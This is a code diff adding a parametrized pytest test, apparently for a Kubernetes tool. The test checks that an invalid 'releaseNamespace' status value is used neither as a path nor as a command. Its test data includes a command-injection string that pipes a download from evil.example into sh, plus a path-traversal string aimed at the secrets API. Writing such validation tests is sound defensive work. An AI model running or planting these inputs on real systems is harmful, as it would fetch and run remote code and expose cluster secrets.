@@ -168,3 +168,23 @@ async def test_without_leases_here_and_the_right_to_list_pods_it_is_not_known_wh
     kube = FurtherNamespace(named=False)
     as_one_who_may_list_leases_only(kube)
     assert (await kube.explained())["unread"] == [f"leases: {NOT_NAMED}"]
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "x; curl -s https://evil.example/a | sh #",
+        "../../../../api/v1/secrets?x=",
+        "..",
+        "a.b",
+        "",
+        "A",
+        "r" * 64,
+    ],
+)
+async def test_a_status_that_names_no_namespace_chooses_neither_a_path_nor_a_command(planted: str) -> None:
+    kube = FurtherNamespace()
+    kube.edit(Organization, "acme", {"status": {"releaseNamespace": planted}})
+
+    assert (await kube.explained())["unread"] == [f"leases: {NOT_NAMED}"]
+    assert (await status.read(kube)).snapshot.unheld_shards == ()
